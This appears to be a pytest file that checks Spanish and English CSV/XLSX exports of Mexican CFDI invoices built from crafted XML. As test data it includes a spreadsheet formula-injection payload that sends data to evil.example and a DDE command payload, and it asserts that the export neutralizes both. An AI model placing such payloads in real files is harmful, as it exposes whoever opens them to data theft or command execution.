"""Issue 17, item 4: exports in the user's language, and an .xlsx an accountant can use as it opens.

Crafted CFDI (4.0, 3.3 and 3.2; issued and received; MXN and USD with ``TipoCambio``; a hostile name and line
item) are imported with the real CLI and exported with ``invoices list --format csv|xlsx [--lang en]``. Each
file is read back as bytes and XML (the project's hardened parser, no spreadsheet library): headers and words
in Spanish (English with ``--lang en``), real date cells shown dd/mm/yyyy, money formats, column widths, the
frozen header row and the filter, a totals row equal to the sums of the raw XML, and a *Conceptos* sheet whose
rows are exactly the ``cfdi:Concepto`` elements of the XML (found here with lxml XPath, not with the exporter's
code). Before this change the CSV had English headers and words, the .xlsx one sheet with ISO dates, no widths,
no totals and no line items, and the CLI had no ``--lang``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from datetime import datetime
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path

import pytest
from lxml import etree

from desktop_app.core.xmlsafe import parse

REPO = Path(__file__).resolve().parents[2]
RFC = "EKU9003173C9"
M = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS = {"m": M}
CFDI_NS = {"c4": "http://www.sat.gob.mx/cfd/4", "c3": "http://www.sat.gob.mx/cfd/3"}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Ver")'
HOSTILE_ITEM = "@SUM(1+1)*cmd|' /C calc'!A0"


# -- crafted CFDI ------------------------------------------------------------------------------------------------


def concept(key, description, quantity, unit_key, unit, price, amount, *, discount=None, iva=None, isr=None, ivaw=None):
    """A CFDI 3.3/4.0 ``cfdi:Concepto`` with its own taxes (IVA transferred, ISR and IVA withheld)."""
    attrs = (
        f'ClaveProdServ="{key}" Cantidad="{quantity}" ClaveUnidad="{unit_key}" Unidad="{unit}" '
        f'Descripcion="{escape_attr(description)}" ValorUnitario="{price}" Importe="{amount}" ObjetoImp="02"'
    )
    if discount is not None:
        attrs += f' Descuento="{discount}"'
    taxes = ""
    if iva is not None:
        taxes += (
            f'<cfdi:Traslados><cfdi:Traslado Base="{amount}" Impuesto="002" TipoFactor="Tasa" '
            f'TasaOCuota="0.160000" Importe="{iva}"/></cfdi:Traslados>'
        )
    withheld = ""
    if isr is not None:
        withheld += (
            f'<cfdi:Retencion Base="{amount}" Impuesto="001" TipoFactor="Tasa" TasaOCuota="0.100000" Importe="{isr}"/>'
        )
    if ivaw is not None:
        withheld += (
            f'<cfdi:Retencion Base="{amount}" Impuesto="002" TipoFactor="Tasa" TasaOCuota="0.106667" Importe="{ivaw}"/>'
        )
    if withheld:
        taxes += f"<cfdi:Retenciones>{withheld}</cfdi:Retenciones>"
    inner = f"<cfdi:Impuestos>{taxes}</cfdi:Impuestos>" if taxes else ""
    return f"<cfdi:Concepto {attrs}>{inner}</cfdi:Concepto>"


def escape_attr(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def cfdi(
    uuid: str,
    fecha: str,
    *,
    issuer: str,
    receiver: str,
    concepts: list[str],
    subtotal: str,
    total: str,
    iva: str = "0",
    isr: str = "0",
    ivaw: str = "0",
    discount: str | None = None,
    currency: str = "MXN",
    rate: str | None = None,
    version: str = "4.0",
    kind: str = "I",
    issuer_name: str = "PROVEEDOR SA DE CV",
    method: str = "PUE",
    form: str = "03",
    use: str = "G03",
) -> bytes:
    ns = "http://www.sat.gob.mx/cfd/4" if version == "4.0" else "http://www.sat.gob.mx/cfd/3"
    extra = f' Descuento="{discount}"' if discount else ""
    extra += f' TipoCambio="{rate}"' if rate else ""
    summary = (
        f'<cfdi:Impuestos TotalImpuestosTrasladados="{iva}" TotalImpuestosRetenidos="{Decimal(isr) + Decimal(ivaw)}">'
        f'<cfdi:Retenciones><cfdi:Retencion Impuesto="001" Importe="{isr}"/><cfdi:Retencion Impuesto="002" '
        f'Importe="{ivaw}"/></cfdi:Retenciones><cfdi:Traslados><cfdi:Traslado Base="{subtotal}" Impuesto="002" '
        f'TipoFactor="Tasa" TasaOCuota="0.160000" Importe="{iva}"/></cfdi:Traslados></cfdi:Impuestos>'
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><cfdi:Comprobante xmlns:cfdi="{ns}" Version="{version}" '
        f'Serie="A" Folio="{uuid[:4]}" Fecha="{fecha}" SubTotal="{subtotal}" Total="{total}" Moneda="{currency}"'
        f'{extra} TipoDeComprobante="{kind}" MetodoPago="{method}" FormaPago="{form}" LugarExpedicion="06600">'
        f'<cfdi:Emisor Rfc="{issuer}" Nombre="{escape_attr(issuer_name)}" RegimenFiscal="601"/>'
        f'<cfdi:Receptor Rfc="{receiver}" Nombre="CLIENTE" UsoCFDI="{use}"/>'
        f"<cfdi:Conceptos>{''.join(concepts)}</cfdi:Conceptos>{summary}<cfdi:Complemento>"
        '<tfd:TimbreFiscalDigital xmlns:tfd="http://www.sat.gob.mx/TimbreFiscalDigital" Version="1.1" '
        f'UUID="{uuid}" FechaTimbrado="{fecha}"/></cfdi:Complemento></cfdi:Comprobante>'
    ).encode()


def cfdi32(uuid: str, fecha: str) -> bytes:
    """A CFDI 3.2 (lower-case names, no taxes per concept) received by the profile."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/3" '
        f'version="3.2" fecha="{fecha}" tipoDeComprobante="ingreso" subTotal="300.00" total="348.00" '
        'Moneda="MXN" metodoDePago="01" formaDePago="PAGO EN UNA SOLA EXHIBICION">'
        '<cfdi:Emisor rfc="XAXX010101000" nombre="ANTIGUO SA"/>'
        f'<cfdi:Receptor rfc="{RFC}" nombre="ESCUELA"/><cfdi:Conceptos>'
        '<cfdi:Concepto cantidad="2" unidad="PIEZA" descripcion="Sillas" valorUnitario="100.00" importe="200.00"/>'
        '<cfdi:Concepto cantidad="1" unidad="SERVICIO" descripcion="Flete" valorUnitario="100.00" importe="100.00"/>'
        '</cfdi:Conceptos><cfdi:Impuestos totalImpuestosTrasladados="48.00"><cfdi:Traslados>'
        '<cfdi:Traslado impuesto="IVA" tasa="16.00" importe="48.00"/></cfdi:Traslados></cfdi:Impuestos>'
        '<cfdi:Complemento><tfd:TimbreFiscalDigital xmlns:tfd="http://www.sat.gob.mx/TimbreFiscalDigital" '
        f'version="1.0" UUID="{uuid}" FechaTimbrado="{fecha}"/></cfdi:Complemento></cfdi:Comprobante>'
    ).encode()


DOCS = {
    # issued, MXN, two concepts with taxes, one with a discount
    "11111111-1111-4111-8111-111111111111": cfdi(
        "11111111-1111-4111-8111-111111111111",
        "2026-03-05T09:15:00",
        issuer=RFC,
        receiver="AAA010101AAA",
        concepts=[
            concept(
                "84111506",
                "Servicios contables",
                "1",
                "E48",
                "Servicio",
                "1000.00",
                "1000.00",
                iva="144.00",
                discount="100.00",
                isr="90.00",
                ivaw="96.00",
            ),
            concept("43211507", "Computadora portátil", "2.5", "H87", "Pieza", "200.123456", "500.31", iva="80.05"),
        ],
        subtotal="1500.31",
        discount="100.00",
        iva="224.05",
        isr="90.00",
        ivaw="96.00",
        total="1438.36",
    ),
    # received, USD with an exchange rate, hostile issuer name and line item
    "22222222-2222-4222-8222-222222222222": cfdi(
        "22222222-2222-4222-8222-222222222222",
        "2026-03-20T18:40:10",
        issuer="BBB010101BBB",
        receiver=RFC,
        concepts=[concept("81112101", HOSTILE_ITEM, "3", "E48", "Servicio", "33.335", "100.01", iva="16.00")],
        subtotal="100.01",
        iva="16.00",
        total="116.01",
        currency="USD",
        rate="17.2537",
        issuer_name=HOSTILE_NAME,
        method="PPD",
        form="99",
        use="G01",
    ),
    # received, CFDI 3.3, a credit note (E) with no taxes per concept
    "33333333-3333-4333-8333-333333333333": cfdi(
        "33333333-3333-4333-8333-333333333333",
        "2026-04-01T00:00:00",
        issuer="CCC010101CCC",
        receiver=RFC,
        concepts=[concept("84111506", "Bonificación", "1", "ACT", "Actividad", "50.00", "50.00")],
        subtotal="50.00",
        total="50.00",
        version="3.3",
        kind="E",
    ),
    "44444444-4444-4444-8444-444444444444": cfdi32("44444444-4444-4444-8444-444444444444", "2016-07-01T12:00:00"),
    # two more, whose vault files are removed / damaged after the import
    "55555555-5555-4555-8555-555555555555": cfdi(
        "55555555-5555-4555-8555-555555555555",
        "2026-05-01T10:00:00",
        issuer=RFC,
        receiver="DDD010101DDD",
        concepts=[concept("01010101", "Perdido", "1", "H87", "Pieza", "10.00", "10.00", iva="1.60")],
        subtotal="10.00",
        iva="1.60",
        total="11.60",
    ),
    "66666666-6666-4666-8666-666666666666": cfdi(
        "66666666-6666-4666-8666-666666666666",
        "2026-05-02T10:00:00",
        issuer=RFC,
        receiver="DDD010101DDD",
        concepts=[concept("01010101", "Dañado", "1", "H87", "Pieza", "20.00", "20.00", iva="3.20")],
        subtotal="20.00",
        iva="3.20",
        total="23.20",
    ),
}
MISSING, DAMAGED = "55555555-5555-4555-8555-555555555555", "66666666-6666-4666-8666-666666666666"


def run_cli(home: Path, *args: str) -> dict:
    env = {**os.environ, "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring"}
    env["DESCARGA_MASIVA_SAT_URL"] = "http://127.0.0.1:9"  # never SAT
    proc = subprocess.run(
        [sys.executable, "-m", "desktop_app", "--home", str(home), *args],
        cwd=REPO,
        env=env,
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout.decode(errors="replace") + proc.stderr.decode(errors="replace")
    return json.loads(proc.stdout.decode("utf-8"))["data"]


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> dict:
    base = tmp_path_factory.mktemp("export-es")
    home, folder = base / "home", base / "xml"
    folder.mkdir()
    for uuid, data in DOCS.items():
        (folder / f"{uuid}.xml").write_bytes(data)
    run_cli(home, "profile", "add", RFC)
    imported = run_cli(home, "invoices", "import", str(folder))
    assert imported["added"] == len(DOCS), imported
    listed = run_cli(home, "invoices", "list")
    paths = {r["uuid"]: Path(r["path"]) for r in listed["invoices"]}
    # What the export must read from the vault: the XML as it is there now.
    paths[MISSING].unlink()
    paths[DAMAGED].write_bytes(DOCS[DAMAGED][:300])  # cut: not well-formed any more
    out = {"base": base, "home": home, "listed": listed}
    for lang in ("es", "en"):
        for fmt in ("csv", "xlsx"):
            target = base / f"facturas-{lang}.{fmt}"
            out[fmt, lang] = run_cli(home, "invoices", "list", "--format", fmt, "--lang", lang, "--output", str(target))
            out[fmt, lang]["file"] = target
    return out


# -- reading an .xlsx back ------------------------------------------------------------------------------------------


class Workbook:
    """The parts of an .xlsx that matter here, from its XML (xmlsafe's parser)."""

    def __init__(self, path: Path) -> None:
        with zipfile.ZipFile(path) as zf:
            assert zf.testzip() is None
            self.workbook = parse(zf.read("xl/workbook.xml"))
            rels = parse(zf.read("xl/_rels/workbook.xml.rels"))
            styles = parse(zf.read("xl/styles.xml"))
            targets = {r.get("Id"): r.get("Target") for r in rels}
            rel = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
            self.sheets = {
                s.get("name"): parse(zf.read("xl/" + targets[s.get(rel)]), huge=True)
                for s in self.workbook.iterfind("m:sheets/m:sheet", NS)
            }
        self.names = [s.get("name") for s in self.workbook.iterfind("m:sheets/m:sheet", NS)]
        formats = {int(f.get("numFmtId")): f.get("formatCode") for f in styles.iterfind("m:numFmts/m:numFmt", NS)}
        fonts = list(styles.iterfind("m:fonts/m:font", NS))
        self.xf = []
        for xf in styles.iterfind("m:cellXfs/m:xf", NS):
            font = fonts[int(xf.get("fontId", "0"))]
            self.xf.append(
                {
                    "format": formats.get(int(xf.get("numFmtId", "0")), "General"),
                    "bold": font.find("m:b", NS) is not None,
                    "quote": xf.get("quotePrefix") == "1",
                }
            )

    def rows(self, sheet: str) -> dict[int, dict[str, dict]]:
        """Row number → column letters → ``{"value", "type", "format", "bold", "quote", "formula"}``."""
        out: dict[int, dict[str, dict]] = {}
        for row in self.sheets[sheet].iterfind("m:sheetData/m:row", NS):
            cells = {}
            for c in row.iterfind("m:c", NS):
                text = c.find("m:is/m:t", NS)
                value = c.find("m:v", NS)
                style = self.xf[int(c.get("s", "0"))]
                cells[re.sub(r"[0-9]", "", c.get("r"))] = {
                    "value": text.text if text is not None else (value.text if value is not None else None),
                    "type": c.get("t"),
                    "formula": c.find("m:f", NS) is not None,
                    **style,
                }
            out[int(row.get("r"))] = cells
        return out

    def table(self, sheet: str) -> tuple[list[str], list[dict[str, dict]], dict[int, dict[str, dict]]]:
        """Headers, the data rows (up to the first gap) keyed by header, and every row by number."""
        rows = self.rows(sheet)
        header = rows[1]
        letters = sorted(header, key=lambda col: (len(col), col))
        titles = [header[col]["value"] for col in letters]
        data = []
        number = 2
        while number in rows:
            data.append({title: rows[number].get(col) for title, col in zip(titles, letters, strict=True)})
            number += 1
        return titles, data, rows


def serial(moment: str) -> float:
    delta = datetime.fromisoformat(moment) - datetime(1899, 12, 30)
    return delta.days + delta.seconds / 86400


def value(cell: dict | None) -> str | None:
    return None if cell is None else cell["value"]


# -- the raw XML, independently --------------------------------------------------------------------------------


def xml_of(uuid: str) -> etree._Element:
    return etree.fromstring(DOCS[uuid])


def xpath_sum(root: etree._Element, path: str) -> Decimal:
    return sum((Decimal(v) for v in root.xpath(path, namespaces=CFDI_NS)), Decimal(0))


def expected_totals(uuids: list[str]) -> dict[str, Decimal]:
    """Each amount in MXN (× TipoCambio when Moneda is not MXN), rounded half-up to cents per document."""
    sums = {k: Decimal(0) for k in ("Subtotal", "Descuento", "IVA trasladado", "IVA retenido", "ISR retenido", "Total")}
    for uuid in uuids:
        root = xml_of(uuid)
        rate = Decimal(root.get("TipoCambio") or "1") if root.get("Moneda") not in ("MXN", None) else Decimal(1)
        comp = "*[local-name()='Impuestos']"
        amounts = {
            "Subtotal": Decimal(root.get("SubTotal") or root.get("subTotal")),
            "Descuento": Decimal(root.get("Descuento") or "0"),
            "IVA trasladado": xpath_sum(root, f"{comp}/*/*[local-name()='Traslado'][@Impuesto='002']/@Importe")
            + xpath_sum(root, f"{comp}/*/*[local-name()='Traslado'][@impuesto='IVA']/@importe"),
            "IVA retenido": xpath_sum(root, f"{comp}/*/*[local-name()='Retencion'][@Impuesto='002']/@Importe"),
            "ISR retenido": xpath_sum(root, f"{comp}/*/*[local-name()='Retencion'][@Impuesto='001']/@Importe"),
            "Total": Decimal(root.get("Total") or root.get("total")),
        }
        for key, amount in amounts.items():
            sums[key] += (amount * rate).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)
    return sums


def expected_concepts(uuid: str) -> list[dict[str, Decimal | str | None]]:
    root = xml_of(uuid)
    out = []
    for c in root.xpath("c4:Conceptos/c4:Concepto | c3:Conceptos/c3:Concepto", namespaces=CFDI_NS):

        def attr(upper: str, lower: str, c=c) -> str | None:
            return c.get(upper) if c.get(upper) is not None else c.get(lower)

        taxes = c.xpath("*[local-name()='Impuestos']")
        out.append(
            {
                "Clave SAT (ClaveProdServ)": c.get("ClaveProdServ"),
                "Descripción": attr("Descripcion", "descripcion"),
                "Cantidad": Decimal(attr("Cantidad", "cantidad")),
                "Clave de unidad": c.get("ClaveUnidad"),
                "Unidad": attr("Unidad", "unidad"),
                "Valor unitario": Decimal(attr("ValorUnitario", "valorUnitario")),
                "Importe": Decimal(attr("Importe", "importe")),
                "Descuento": Decimal(c.get("Descuento")) if c.get("Descuento") else None,
                "Impuestos trasladados": xpath_sum(c, "*/*/*[local-name()='Traslado']/@Importe") if taxes else None,
                "Impuestos retenidos": xpath_sum(c, "*/*/*[local-name()='Retencion']/@Importe") if taxes else None,
            }
        )
    return out


# -- CSV ---------------------------------------------------------------------------------------------------------


def read_csv(path: Path) -> tuple[bytes, list[str], list[dict[str, str]]]:
    raw = path.read_bytes()
    text = raw.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    return raw, header, [dict(zip(header, row, strict=True)) for row in reader]


def test_csv_is_spanish_utf8_with_bom_comma_separated_and_formula_safe(exported):
    raw, header, rows = read_csv(exported["csv", "es"]["file"])
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel in Spanish then reads the accents right
    assert raw.split(b"\r\n")[0].count(b",") == len(header) - 1  # "," between fields (Excel es-MX's separator)
    assert header[:4] == ["UUID", "Emitido/Recibido", "Tipo de comprobante", "Estado en el SAT"]
    assert {"Fecha de emisión", "Nombre emisor", "IVA trasladado", "Uso del CFDI", "Método de pago"} <= set(header)
    assert not {"uuid", "direction", "issuer_name", "status"} & set(header)  # the English field names are gone
    by_uuid = {r["UUID"]: r for r in rows}
    assert len(by_uuid) == len(DOCS)
    issued = by_uuid["11111111-1111-4111-8111-111111111111"]
    received = by_uuid["22222222-2222-4222-8222-222222222222"]
    assert (issued["Emitido/Recibido"], received["Emitido/Recibido"]) == ("Emitido", "Recibido")
    assert issued["Tipo de comprobante"] == "I Ingreso"
    assert by_uuid["33333333-3333-4333-8333-333333333333"]["Tipo de comprobante"] == "E Egreso"
    assert {r["Estado en el SAT"] for r in rows} == {"Desconocido"}  # imported files: SAT not asked yet
    assert issued["Método de pago"] == "PUE Pago en una sola exhibición"
    assert received["Forma de pago"] == "99 Por definir"
    assert received["Uso del CFDI"] == "G01 Adquisición de mercancías"
    assert issued["Fecha de emisión"] == "2026-03-05 09:15:00"  # a date Excel reads in any language
    assert issued["Total"] == "1438.36"  # amounts as written: numbers in Excel es-MX ("." decimals)
    assert received["Nombre emisor"] == "'" + HOSTILE_NAME  # formula-safe
    assert exported["csv", "es"]["neutralized_cells"] == 1


def test_csv_in_english_with_lang_en(exported):
    _, header, rows = read_csv(exported["csv", "en"]["file"])
    assert header[:4] == ["UUID", "Issued/Received", "Document type", "Status at SAT"]
    by_uuid = {r["UUID"]: r for r in rows}
    issued = by_uuid["11111111-1111-4111-8111-111111111111"]
    assert (issued["Issued/Received"], issued["Document type"], issued["Status at SAT"]) == (
        "Issued",
        "I Income",
        "Unknown",
    )
    assert by_uuid["22222222-2222-4222-8222-222222222222"]["Issued/Received"] == "Received"


# -- XLSX: the invoices sheet ---------------------------------------------------------------------------------------


def test_xlsx_invoices_sheet_speaks_spanish_with_real_dates_and_money(exported):
    book = Workbook(exported["xlsx", "es"]["file"])
    assert book.names == ["Facturas", "Conceptos"]
    titles, data, _ = book.table("Facturas")
    assert titles[:4] == ["UUID", "Emitido/Recibido", "Tipo de comprobante", "Estado en el SAT"]
    assert "Dirección" not in titles  # it read as "address"
    assert all(cell["bold"] for cell in book.rows("Facturas")[1].values())
    by_uuid = {value(r["UUID"]): r for r in data}
    assert set(by_uuid) == set(DOCS)
    row = by_uuid["11111111-1111-4111-8111-111111111111"]
    assert [value(row[k]) for k in ("Emitido/Recibido", "Tipo de comprobante", "Estado en el SAT")] == [
        "Emitido",
        "I Ingreso",
        "Desconocido",
    ]
    assert value(by_uuid["22222222-2222-4222-8222-222222222222"]["Emitido/Recibido"]) == "Recibido"
    for uuid, r in by_uuid.items():
        fecha = xml_of(uuid).get("Fecha") or xml_of(uuid).get("fecha")
        cell = r["Fecha de emisión"]
        assert cell["type"] is None and cell["format"] == "dd/mm/yyyy", cell  # a number shown as a date
        assert float(cell["value"]) == pytest.approx(serial(fecha), abs=1e-6)
        total = r["Total"]
        assert total["type"] is None and total["format"] == '"$"#,##0.00'
        assert Decimal(total["value"]) == Decimal(xml_of(uuid).get("Total") or xml_of(uuid).get("total"))
    assert by_uuid["22222222-2222-4222-8222-222222222222"]["Nombre emisor"]["quote"]  # hostile: text, quoted
    assert not any(c["formula"] for r in book.rows("Facturas").values() for c in r.values())


def test_xlsx_has_widths_a_frozen_header_and_filters_on_both_sheets(exported):
    book = Workbook(exported["xlsx", "es"]["file"])
    for name, columns in (("Facturas", 30), ("Conceptos", 16)):
        sheet = book.sheets[name]
        cols = sheet.findall("m:cols/m:col", NS)
        assert len(cols) == columns and all(c.get("customWidth") == "1" for c in cols)
        titles, _, _ = book.table(name)
        for col, title in zip(cols, titles, strict=True):
            assert float(col.get("width")) >= len(title), (name, title)  # no header cut
        pane = sheet.find("m:sheetViews/m:sheetView/m:pane", NS)
        assert (pane.get("state"), pane.get("ySplit"), pane.get("topLeftCell")) == ("frozen", "1", "A2")
        last = "AD" if name == "Facturas" else "P"
        rows = (
            len(DOCS)
            if name == "Facturas"
            else sum(len(expected_concepts(u)) for u in DOCS if u not in (MISSING, DAMAGED))
        )
        assert sheet.find("m:autoFilter", NS).get("ref") == f"A1:{last}{rows + 1}"
    widths = {c.get("min"): float(c.get("width")) for c in book.sheets["Facturas"].findall("m:cols/m:col", NS)}
    assert widths["1"] >= 36  # a whole UUID
    filters = book.workbook.findall("m:definedNames/m:definedName", NS)
    assert {(f.get("name"), f.get("localSheetId")) for f in filters} == {
        ("_xlnm._FilterDatabase", "0"),
        ("_xlnm._FilterDatabase", "1"),
    }


def test_xlsx_totals_row_equals_the_sums_of_the_raw_xml_in_mxn(exported):
    doc = exported["xlsx", "es"]
    book = Workbook(doc["file"])
    titles, data, rows = book.table("Facturas")
    totals_row = rows[len(data) + 3]  # one blank row between the invoices and their totals, outside the filter
    assert len(data) + 2 not in rows
    letter = {title: col for col, title in zip(sorted(rows[1], key=lambda c: (len(c), c)), titles, strict=True)}
    label = totals_row[letter["UUID"]]
    assert label["value"] == f"Total MXN — comprobantes: {len(DOCS)}" and label["bold"]
    expected = expected_totals(list(DOCS))
    for title, amount in expected.items():
        cell = totals_row[letter[title]]
        assert not cell["formula"] and cell["format"] == '"$"#,##0.00' and cell["bold"], title
        assert Decimal(cell["value"]) == amount, title
    # the same figures as the CLI's data.totals (the app's totals bar)
    assert Decimal(totals_row[letter["Total"]]["value"]) == Decimal(doc["totals"]["total"])
    assert Decimal(totals_row[letter["IVA trasladado"]]["value"]) == Decimal(doc["totals"]["iva_transferred"])
    note = rows[len(data) + 4]["A"]["value"]
    assert note == "Comprobantes en otra moneda, sumados en MXN con su tipo de cambio: 1"  # the USD one


# -- XLSX: the Conceptos sheet ------------------------------------------------------------------------------------


def test_xlsx_conceptos_sheet_has_every_line_item_of_the_vault_xml(exported):
    doc = exported["xlsx", "es"]
    book = Workbook(doc["file"])
    titles, data, rows = book.table("Conceptos")
    assert titles == [
        "UUID",
        "Fecha de emisión",
        "Emitido/Recibido",
        "RFC emisor",
        "RFC receptor",
        "Clave SAT (ClaveProdServ)",
        "Descripción",
        "Cantidad",
        "Clave de unidad",
        "Unidad",
        "Valor unitario",
        "Importe",
        "Descuento",
        "Impuestos trasladados",
        "Impuestos retenidos",
        "Moneda",
    ]
    readable = [u for u in DOCS if u not in (MISSING, DAMAGED)]
    got: dict[str, list[dict]] = {}
    for r in data:
        got.setdefault(value(r["UUID"]), []).append(r)
    assert set(got) == set(readable)  # the missing and the damaged XML have no rows …
    assert doc["concepts"] == len(data) == sum(len(expected_concepts(u)) for u in readable)
    assert doc["concepts_skipped"] == {"no_xml": 0, "missing_xml": 1, "damaged_xml": 1}  # … and are counted
    note = rows[len(data) + 3]["A"]["value"]
    assert note == "Comprobantes sin conceptos: 0 sin XML (sólo metadatos), 1 con el XML faltante, 1 con el XML dañado"
    for uuid in readable:
        expected = expected_concepts(uuid)
        assert len(got[uuid]) == len(expected), uuid
        for row, want in zip(got[uuid], expected, strict=True):
            for title, wanted in want.items():
                cell = row[title]
                if wanted is None:
                    assert cell is None, (uuid, title)
                elif isinstance(wanted, Decimal):
                    assert cell["type"] is None and Decimal(cell["value"]) == wanted, (uuid, title)
                else:
                    assert cell["value"] == wanted, (uuid, title)
            assert row["Fecha de emisión"]["format"] == "dd/mm/yyyy"
            assert row["Importe"]["format"] == '"$"#,##0.00'
            assert row["Valor unitario"]["format"] == '"$"#,##0.00####'  # unit values keep their 6 decimals
            root = xml_of(uuid)
            assert value(row["Moneda"]) == (root.get("Moneda") or "MXN")
            issuer = root.xpath("*[local-name()='Emisor']")[0]
            assert value(row["RFC emisor"]) == (issuer.get("Rfc") or issuer.get("rfc"))
    hostile = got["22222222-2222-4222-8222-222222222222"][0]["Descripción"]
    assert hostile["value"] == HOSTILE_ITEM and hostile["type"] == "inlineStr" and hostile["quote"]
    assert not any(c["formula"] for r in rows.values() for c in r.values())


def test_xlsx_in_english_with_lang_en(exported):
    book = Workbook(exported["xlsx", "en"]["file"])
    assert book.names == ["Invoices", "Line items"]
    titles, data, rows = book.table("Invoices")
    assert titles[:4] == ["UUID", "Issued/Received", "Document type", "Status at SAT"]
    assert {value(r["Issued/Received"]) for r in data} == {"Issued", "Received"}
    assert rows[len(data) + 3]["A"]["value"] == f"Total MXN — documents: {len(DOCS)}"
    assert book.table("Line items")[0][5:8] == ["SAT product key (ClaveProdServ)", "Description", "Quantity"]
    # its days as English writes them (Spanish: dd/mm/yyyy, above); before: dd/mm/yyyy in both
    assert {r["Issue date"]["format"] for r in data} == {"m/d/yyyy"}


# -- core.export directly: what the CLI cannot easily build -----------------------------------------------------------


def test_metadata_rows_and_excels_row_limit_are_counted_and_said(tmp_path, monkeypatch):
    from desktop_app.core import export

    monkeypatch.setattr(export, "EXCEL_MAX_ROWS", 6)  # room for 2 invoices (header, blank, totals, note)
    records = [
        {
            "uuid": f"0000000{i}-0000-4000-8000-000000000000",
            "direction": "received",
            "type": "I",
            "status": s,
            "total": "10.00",
            "currency": "MXN",
            "has_xml": False,
            "path": None,
        }
        for i, s in enumerate(["vigente", "cancelado", "unknown"])
    ]
    report: dict = {}
    assert export.write_xlsx(records, tmp_path / "f.xlsx", report=report) == 2
    assert report["rows_left_out"] == 1 and report["concepts_skipped_no_xml"] == 2
    book = Workbook(tmp_path / "f.xlsx")
    titles, data, rows = book.table("Facturas")
    assert [value(r["Estado en el SAT"]) for r in data] == ["Vigente", "Cancelado"]
    note = rows[6]["A"]["value"]
    assert "Filas que no caben en esta hoja (Excel admite 1,048,576): 1; exporta por periodos" in note
    # the cancelled one is listed, not summed: the totals row counts and adds the vigente one only (issue 17)
    assert "Comprobantes cancelados, listados y no sumados: 1" in note
    assert rows[5]["A"]["value"] == "Total MXN — comprobantes: 1"
    assert book.rows("Conceptos")[3]["A"]["value"].startswith("Comprobantes sin conceptos: 2 sin XML")

    # A filter on a status sums every row it lists (``data.totals``' rule): no cancelled note.
    assert export.write_xlsx(records[:2], tmp_path / "g.xlsx", cancelled_out=False) == 2
    rows = Workbook(tmp_path / "g.xlsx").rows("Facturas")
    assert rows[5]["A"]["value"] == "Total MXN — comprobantes: 2"
    assert 6 not in rows or "cancelados" not in rows[6]["A"]["value"]


def test_catalog_names_read_as_sat_means_them():
    """«07 — Tarejtas digitales» showed in the filters, the exports and the printed CFDI (a typo in the data)."""
    from desktop_app.core.vocabulary import catalog_label, value_text

    assert catalog_label("c_FormaPago", "07") == "07 — Tarjetas digitales"
    assert value_text("payment_form", "03", "es") == "03 Transferencia electrónica de fondos"
